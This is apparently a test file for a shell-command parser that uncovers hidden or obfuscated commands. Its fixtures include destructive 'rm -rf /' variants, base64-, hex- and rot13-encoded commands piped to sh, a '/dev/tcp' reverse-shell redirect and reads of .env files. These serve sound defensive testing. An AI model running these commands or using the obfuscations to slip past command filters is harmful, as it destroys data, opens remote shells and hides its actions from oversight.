import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type FoundCommand, findCommands } from './find-commands.ts';

test.each([
  ['one', 'git status', ['git status']],
  ['joined', 'a && b || c; d | e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
  ['conditions and loops', 'if a; then b; fi; while c; do d; done; case x in x) e;; esac', ['a', 'b', 'c', 'd', 'e']],
  ['groups', '(a; b); { c; }', ['a', 'b', 'c']],
  ['substitutions', 'echo $(a) `b` "$(c)" ${x:-$(d)} <(e)', ['a', 'b', 'c', 'd', 'e']],
  ['functions', 'f() { rm -rf /; }; f', ['rm -rf /', 'f']],
  ['sudo', 'sudo -u bob -E rm -rf /', ['rm -rf /']],
  ['wrappers in wrappers', 'sudo env -u X A=b nohup nice -n 5 timeout -k 1 10 rm x', ['rm x']],
  ['an option with its value', 'su root --command="rm x"', ['rm x']],
  ['xargs', 'ls | xargs -I{} -n 1 rm -rf {}', ['ls', 'rm -rf {}']],
  ['what xargs reads', 'echo / a | xargs rm -rf', ['rm -rf / a']],
  ['find', 'find . -name x -exec rm {} \\; -exec ls {} +', ['rm {}', 'ls {}']],
  ['find without an end', 'find . -exec rm x', ['rm x']],
  ['a shell', "bash -lc 'cd x && rm y'", ['cd x', 'rm y']],
  ['a shell in a shell', `bash -c "sh -c 'rm y'"`, ['sh -c rm y', 'rm y']],
  ['a shell of Windows', 'cmd /c "del x"', ['del x']],
  ['the words for a shell of Windows', 'cmd /c rd /s /q x; pwsh -c', ['rd /s /q x', 'pwsh -c']],
  ['a path of Windows', 'type D:\\x\\.env', ['type D:\\x\\.env']],
  ['eval', 'eval rm "-rf" /', ['rm -rf /']],
  ['trap', "trap 'rm x' EXIT; trap -- 'rm y' INT", ['rm x', 'rm y']],
  ['ssh', 'ssh -p 22 a@b rm -rf /', ['rm -rf /']],
  ['ssh with a text', 'ssh b "a; rm x"', ['a', 'rm x']],
  ['verbs', 'docker exec -it -u root c rm x; npm exec -c "rm y"; git bisect run rm z', ['rm x', 'rm y', 'rm z']],
  ['no verb', 'docker ps; git log', ['docker ps', 'git log']],
  ['after two dashes', 'kubectl exec pod -- rm x', ['rm x']],
  ['a here-document', 'bash <<EOF\nrm x\nEOF', ['rm x']],
  ['a quoted here-document', "ssh h <<'EOF'\nrm $x\nEOF", ['rm $x']],
  ['a here-string', 'sh <<< "rm x"', ['rm x']],
  ['a file for a shell', 'bash script.sh <<< "rm x"', ['bash script.sh']],
  ['echo into a shell', 'echo "rm x" | sudo sh', ['rm x']],
  ['a group into a shell', '{ echo a; echo b; } | sh', ['a', 'b']],
  ['a script of options', 'echo "rm x" | bash -s -- y', ['rm x']],
  ['the input of source', '. /dev/stdin <<< "rm x"', ['rm x']],
  ['base64', 'echo cm0geA== | base64 -d | sh', ['rm x']],
  ['base64 in a text', 'bash -c "$(echo cm0geA== | base64 --decode)"', ['rm x']],
  ['hexadecimal', 'echo 726d2078 | xxd -r -p | sh', ['rm x']],
  ['printf', "$(printf '\\x72\\155') x", ['rm x']],
  ['printf in rounds', "printf '%s ' rm x | sh", ['rm x']],
  ['backwards', 'echo "x mr" | rev | sh', ['rm x']],
  ['rotated', "echo 'ez k' | tr a-z n-za-m | sh", ['rm x']],
  ['without letters', "echo 'r.m. x' | tr -d . | sh", ['rm x']],
  [
    'a substitution into a shell',
    "bash <(echo 'rm x'); source <(echo 'rm y'); sh < <(echo rm z)",
    ['rm x', 'rm y', 'rm z'],
  ],
  ['an alias', "alias x='rm -rf'; x / 'a b'", ['rm -rf / a b']],
  ['a variable', 'r=rm; $r x', ['rm x']],
  ['a variable for one command', `r=rm sh -c '$r x'; r=ls true; $r y`, ['rm x', '$r y']],
  ['a variable that its own command does not see', 'r=rm $r x', ['$r x']],
  ['a group that reads', '{ sh; } <<EOF\nrm x\nEOF', ['rm x']],
  ['a file that a group writes', '{ echo rm x; } > a.sh; sh a.sh', ['rm x']],
  ['a variable with spaces', 'x="rm -rf /"; $x; "$x"', ['rm -rf /', 'rm -rf /']],
  ['a part of a variable', 'a=r; ${a}m x', ['rm x']],
  ['a variable that grows', 'a=r; a+=m; $a x', ['r x', 'rm x']],
  ['a list', 'a=(rm x); ${a} y', ['rm y', 'x y']],
  ['a default', '${x:-rm} x; ${y:+rm} y; ${z:?no} z', ['rm x', 'rm y', '${z:?no} z']],
  ['any of its values', 'r=rm; if a; then r=ls; fi; $r x', ['rm x', 'ls x']],
  ['a loop', 'for d in / /home; do rm $d; done', ['rm /', 'rm /home']],
  ['a variable of the shell', 'rm${IFS}-rf$IFS/', ['rm -rf /']],
  ['what nobody knows', '$x ${#y} ${!z} ${a[0]} ${b%c}', ['$x ${#y} ${!z} ${a[0]} ${b%c}']],
  ['braces', '{rm,-rf,/}; echo a{b,c}', ['rm -rf /', 'echo ab ac']],
  ['a sequence', 'echo {1..3} "{a,b}"', ['echo {1..3} {a,b}']],
  ['quotes', `"r"m 'a b' $'\\x2f' $"c"`, ['rm a b / c']],
  ['escapes', 'r\\m x', ['rm x']],
  ['a line that goes on', 'r\\\nm \\\n x', ['rm x']],
  ['arithmetic that bash takes for commands', 'echo $((rm -rf x $(case x in x) echo y;; esac)))', ['rm -rf x $']],
  ['arithmetic', 'echo $((1 + $x))', ['echo $((1 + $x))']],
])('finds the commands in %s', (_, source, expected) => {
  const found = findCommands(source).commands.map(toLine);
  for (const line of expected) expect(found).toContain(line);
});

test.each([
  ["bash -c 'a; rm x'", 'rm x', 'rm x'],
  ['bash -c "rm \\"x\\""', 'rm x', '"rm \\"x\\""'],
  ['sudo rm x', 'rm x', 'rm x'],
  ['bash <<EOF\na\nrm x\nEOF', 'rm x', 'rm x'],
  ['echo "rm x" | sh', 'rm x', 'rm x'],
  ['echo cm0geA== | base64 -d | sh', 'rm x', 'echo cm0geA== | base64 -d'],
  ['r=rm; $r x', 'rm x', '$r x'],
  ["alias q='rm x'; q", 'rm x', 'q'],
  ['ssh h "sudo bash -c \'rm x\'"', 'rm x', 'rm x'],
  ['a; > out.txt', '', 'out.txt'],
])('says where a command stands in %j', (source, line, place) => {
  const command = findCommands(source).commands.find((found) => toLine(found) === line)!;
  expect(source.slice(command.start, command.end)).toBe(place);
});

test('says what a command reads, writes and sets, and who runs it', () => {
  const { commands } = findCommands('A=1 B=$x curl u 2>&1 | sudo sh > /etc/x < y');
  const [curl, sudo, sh] = commands;
  expect(curl?.assignments.map(({ text }) => text)).toEqual(['A=1', 'B=$x']);
  expect(sudo?.redirects.map(({ operator, target }) => `${operator}${target.text}`)).toEqual(['>/etc/x', '<y']);
  expect(sh?.pipedFrom.map(toLine)).toEqual(['curl u']);
  expect(sh?.via).toEqual(['sudo']);
});

test.each([
  ['{ a; } > /etc/x', '>/etc/x'],
  ['while read a; do b; done < .env', '<.env'],
  ['(sh) 0>/dev/tcp/10.0.0.1/443', '>/dev/tcp/10.0.0.1/443'],
  ['if a; then b; fi >> x', '>>x'],
  ['sh <<< "$(c)"', '<<<"$(c)"'],
])('finds the files of %j', (source, file) => {
  const files = findCommands(source).commands.flatMap(({ redirects }) => redirects);
  expect(files.map(({ operator, target }) => operator + target.text)).toContain(file);
});

test.each([
  ['git status', false],
  ["'git' status", false],
  ['\\git status', false],
  ['C:/x/python.exe a', false],
  ['"C:\\x\\python.exe" a', false],
  ['g\\it status', true],
  ['g""it status', true],
  ['x=git; $x status', true],
  ['{git,status}', true],
  ["bash -c 'git status'", false],
  ['bash -c "git $(echo status)"', true],
])('says whether %j is written as it runs', (source, isDisguised) => {
  expect(
    findCommands(source).commands.findLast(({ words }) => /git|python/.test(words[0]?.text ?? ''))?.isDisguised,
  ).toBe(isDisguised);
});

test('knows the names that a text gives to functions', () => {
  expect(findCommands('ls() { a; }; function cd { b; }').functions.map(({ text }) => text)).toEqual(['ls', 'cd']);
});

test.each(['echo "a', 'if a; then b', "bash -c 'echo \"a'", 'echo $(if a)'])(
  'says that %j is not understood',
  (source) => {
    expect(findCommands(source)).toMatchObject({ isWhole: false, isCut: false });
  },
);

test.each([
  ['a megabyte of words', 'a '.repeat(500_000)],
  ['a megabyte of braces', '{'.repeat(1_000_000)],
  ['sixty thousand braces', '{'.repeat(60_000)],
  ['functions without end', 'f()'.repeat(20_000)],
  ['thousands of commands', 'a;'.repeat(30_000)],
  ['wrappers without end', 'sudo '.repeat(12_000)],
  ['texts without end', 'eval '.repeat(12_000)],
  ['aliases that run themselves', "alias a='a;a'; a"],
  ['aliases that run each other', "alias a='b;b'; alias b='a;a'; a"],
  ['variables that double', `a=${'x'.repeat(30)};${'b=$a$a$a$a;a=$b$b$b$b;'.repeat(1000)}$a`],
  ['values without end', `a=${'x'.repeat(1000)}; ${'echo $a$a$a$a;'.repeat(400)}`],
  ['pipes without end', 'a|'.repeat(30_000)],
])('gives up on %s, and says so', (_, source) => {
  expect(findCommands(`${source}\nrm x`)).toMatchObject({ isWhole: false, isCut: true });
});

test('looks at the beginning and the end of what it cannot parse', () => {
  const { commands } = findCommands(`rm first; ${'{'.repeat(200_000)} ; 'rm' last`);
  expect(commands.map(toLine)).toContain('rm first');
  expect(commands.map(toLine)).toContain('rm last');
});

test('ends soon where substitutions are inside each other', () => {
  const nested = `${'$(echo '.repeat(200)}x${')'.repeat(200)}`;
  expect(findCommands(`echo ${nested} ${nested} ${nested}`).commands.length).toBeGreaterThan(0);
});

test('never throws, and every place is inside the text', () => {
  const signs = '$( ` ) " \' \\ | && ; <<E\n E\n <( { } $ ${ $(( )) = > é \u202e';
  const programs = 'sudo,bash -c,eval,echo,xargs,find . -exec,alias a=,printf,base64 -d,a,\n';
  const piece = fc.constantFrom(...signs.split(' '), ...programs.split(',').map((name) => `${name} `));
  const source = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(source, (text) => {
      const places = findCommands(text).commands.flatMap((command) => [...command.words, command]);
      const isInside = places.every(({ start, end }) => start >= 0 && start <= end && end <= text.length);
      expect(isInside).toBe(true);
    }),
    { numRuns: 500, examples: [['$((`\\']] },
  );
});

function toLine({ words }: FoundCommand): string {
  return words.map(({ text }) => text).join(' ');
}

test.each(['coproc ', 'function f ', 'if ', 'while ', 'time ', '! ', 'x='])(
  '%j many times does not end the stack',
  (piece) => {
    const { commands, isWhole } = findCommands(`${piece.repeat(5000)}; rm -rf /`);
    expect(isWhole && commands.length === 0).toBe(false);
  },
);
